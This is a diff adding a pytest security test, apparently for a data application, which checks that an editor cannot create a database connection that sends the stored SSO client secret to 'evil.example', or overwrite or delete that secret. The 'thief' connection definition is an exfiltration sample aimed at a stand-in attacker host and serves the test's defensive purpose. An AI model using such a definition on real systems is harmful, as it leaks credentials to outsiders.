@@ -132,3 +132,18 @@ def test_the_identity_routes_answer_bad_input_without_a_trace_of_it(home, idp):
         assert 400 <= answer.status_code < 500
         assert "canary" not in answer.text
     assert "canary" not in str(home.records()) + str(home.records(None))
+
+
+@pytest.mark.security
+@pytest.mark.req("SEC-V08")
+def test_no_connection_takes_the_client_secret_elsewhere(home, idp):
+    home.call("sso.set", ask(idp), home.token(Role.ADMINISTRATOR))
+    thief = "kind: connection\nname: thief\ntype: postgres\nhost: evil.example\ndatabase: d\nuser: u\npassword: { secret: sluicegate-sso }\n"
+    token = home.token(Role.EDITOR)
+    with pytest.raises(Invalid):
+        home.call("definition.apply", {"source": thief}, token)
+    with pytest.raises(Invalid):
+        home.call("secret.set", {"name": "sluicegate-sso", "value": "mine"}, token)
+    with pytest.raises(Invalid):
+        home.call("secret.delete", {"name": "sluicegate-sso"}, token)
+    assert home.call("sso.get", {}, home.token(Role.ADMINISTRATOR)).has_secret
